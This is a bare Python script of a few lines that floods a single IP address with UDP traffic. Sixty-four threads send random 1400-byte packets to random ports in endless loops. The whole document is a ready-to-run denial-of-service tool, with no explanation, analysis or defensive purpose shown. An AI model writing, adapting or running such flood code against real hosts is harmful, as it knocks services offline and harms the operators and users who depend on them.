import socket, random, threading
def run():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    data = random.randbytes(1400)
    while True:
        s.sendto(data, ("203.0.113.77", random.randint(1, 65535)))
for i in range(64):
    threading.Thread(target=run, daemon=False).start()
